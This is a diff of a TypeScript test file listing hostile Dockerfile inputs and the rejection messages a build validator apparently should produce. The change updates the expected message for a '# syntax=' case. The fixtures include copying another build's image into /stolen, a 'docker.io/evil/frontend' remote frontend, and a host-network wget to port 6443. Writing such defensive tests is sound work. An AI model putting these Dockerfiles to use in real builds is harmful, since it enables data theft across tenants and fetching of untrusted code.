@@ -48,6 +48,6 @@ export const HOSTILE_DOCKERFILES: HostileCase[] = [
   ['FROM ${BASE} with ARG BASE=kadai-…', { Dockerfile: 'ARG BASE=kadai-0123456789abcdef-web\nFROM ${BASE}\n' }, /^Dockerfile:2 FROM: images named kadai-.*\(FROM \$\{BASE\} is kadai-0123456789abcdef-web\)/],
   ["COPY --from=<another attempt's image>", { Dockerfile: 'FROM busybox:1.36\nCOPY --from=kadai-0123456789abcdef-web:latest /app /stolen\n' }, /^Dockerfile:2 COPY --from: images named kadai-/],
   ["RUN --mount from=<another attempt's image>", { Dockerfile: 'FROM busybox:1.36\nRUN --mount=type=bind,from=kadai-0123456789abcdef-web,target=/x cp -r /x /stolen\n' }, /^Dockerfile:2 RUN --mount from: images named kadai-/],
-  ['# syntax= naming a registry frontend', { Dockerfile: '# syntax=docker.io/evil/frontend:latest\nFROM busybox:1.36\n' }, /^Dockerfile:1 # syntax: the syntax directive would fetch/],
+  ['# syntax= naming a registry frontend', { Dockerfile: '# syntax=docker.io/evil/frontend:latest\nFROM busybox:1.36\n' }, /^Dockerfile:1 # syntax: kadai builds with BuildKit's built-in Dockerfile frontend/],
   ['RUN --network=host', { Dockerfile: 'FROM busybox:1.36\nRUN --network=host wget http://127.0.0.1:6443/\n' }, /^Dockerfile:2 RUN --network: /],
 ];
